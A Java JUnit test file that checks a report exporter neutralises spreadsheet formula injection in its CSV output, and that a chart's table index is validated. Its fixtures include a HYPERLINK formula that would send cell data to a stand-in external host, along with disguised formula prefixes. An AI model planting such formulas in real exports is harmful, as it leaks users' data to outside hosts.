package org.rrp.workflow.figures;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;

import org.junit.jupiter.api.Test;
import org.rrp.workflow.figures.Report.Table;

/** The spreadsheet and chart formats of a report, without an engine. */
class FigureFormatsTest {

  @Test
  void aCellASpreadsheetWouldReadAsAFormulaIsWrittenAsTextAndNumbersStayNumbers() {
    Table table = new Table("Requests declined, by reason", List.of("reason", "requests", "change"),
        List.of(List.of("=HYPERLINK(\"https://example.org/?d=\"&A1,\"Details\")", "4", "-2"),
            List.of("+44 a number-like name", "12", "+3"),
            List.of("@SUM(A1:A2)", "0", "-0.5%"),
            List.of("\tTabbed", "1", "0"),
            List.of("Over the age limit", "7", "12%")),
        List.of(4, 12, 0, 1, 7));
    Report report = new Report("demand", "Demand", "Autumn term 2026", "2026-09-01", "2026-12-31", "-area", List.of(table));

    String csv = FigureFormats.csv(report);

    assertThat(csv).contains("'=HYPERLINK(", "'+44 a number-like name", "'@SUM(A1:A2)", "'\tTabbed", "'-area")
        .contains("\"4\",\"-2\"", "\"12\",\"+3\"", "\"0\",\"-0.5%\"", "\"Over the age limit\",\"7\",\"12%\"");
    assertThat(csv.lines()).noneMatch(line -> line.matches("^\"?[=+@\t].*"));
  }

  @Test
  void everyCellIsQuotedSoASpreadsheetSplittingOnSemicolonsOrTabsKeepsItWhole() {
    Table table = new Table("Areas", List.of("Area", "Cases"), List.of(List.of("East;=1+1", "3"), List.of("West\t=1+1", "4")),
        List.of(3, 4));
    String csv = FigureFormats.csv(new Report("caseload", "Caseload", "p", "2026-09-01", "2026-12-31", "All areas", List.of(table)));

    assertThat(csv).contains("\"East;=1+1\",\"3\"", "\"West\t=1+1\",\"4\"", "\"Caseload\",\"p\"");
  }

  @Test
  void aFormulaAfterSpacesAFullWidthSignOrALineBreakIsTextToo() {
    for (String formula : List.of(" =HYPERLINK(1)", "\u00a0@SUM(A1)", "\uFF1DHYPERLINK(1)", "\uFF0B1", "\n=1+1", "\r=1", "\t=1")) {
      assertThat(FigureFormats.readAsFormula(formula)).as(formula).isTrue();
    }
    for (String plain : List.of("Over the age limit", "-2", "+3", "12%", "-0.5%", "", " ", "East Staffs & Tamworth")) {
      assertThat(FigureFormats.readAsFormula(plain)).as(plain).isFalse();
    }
  }

  @Test
  void aChartsTableIsANumberOfTheReportsTables() {
    Report report = new Report("demand", "Demand", "p", "2026-09-01", "2026-12-31", "All areas",
        List.of(new Table("A", List.of("x", "n"), List.of(), List.of()), new Table("B", List.of("x", "n"), List.of(), List.of())));

    assertThat(FigureFormats.tableIndex(report, null)).isZero();
    assertThat(FigureFormats.tableIndex(report, " 1 ")).isEqualTo(1);
    for (String bad : List.of("abc", "1e3", "-1", "99999999999", "0x1")) {
      org.assertj.core.api.Assertions.assertThatThrownBy(() -> FigureFormats.tableIndex(report, bad)).as(bad)
          .isInstanceOf(IllegalArgumentException.class).hasMessage("The table must be a number from 0 to 1.");
    }
  }
}
